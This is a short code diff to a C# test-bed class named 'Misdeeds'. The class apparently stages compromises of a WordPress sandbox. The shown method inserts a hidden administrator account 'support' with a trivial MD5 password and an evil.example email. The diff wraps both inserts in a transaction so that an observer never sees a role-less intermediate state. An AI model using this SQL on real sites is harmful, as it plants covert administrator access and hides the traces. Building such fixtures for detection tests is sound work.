@@ -27,10 +27,13 @@ internal sealed class Misdeeds(Bed bed, TimeProvider clock)
         await mara.ActivatePluginAsync("visitor-counter/visitor-counter", ct);
     }
 
+    /// <summary>In one transaction: between the two the site would for a moment have an account without any role, and a look that falls there tells so.</summary>
     private Task InsertAdministratorAsync(CancellationToken ct) => bed.SqlAsync(
         """
+        START TRANSACTION;
         INSERT INTO wp_users (user_login, user_pass, user_nicename, user_email, user_registered, display_name) VALUES ('support', MD5('x'), 'support', 'support@evil.example', NOW(), 'support');
         INSERT INTO wp_usermeta (user_id, meta_key, meta_value) VALUES (LAST_INSERT_ID(), 'wp_capabilities', 'a:1:{s:13:"administrator";b:1;}');
+        COMMIT;
         """,
         ct);
 
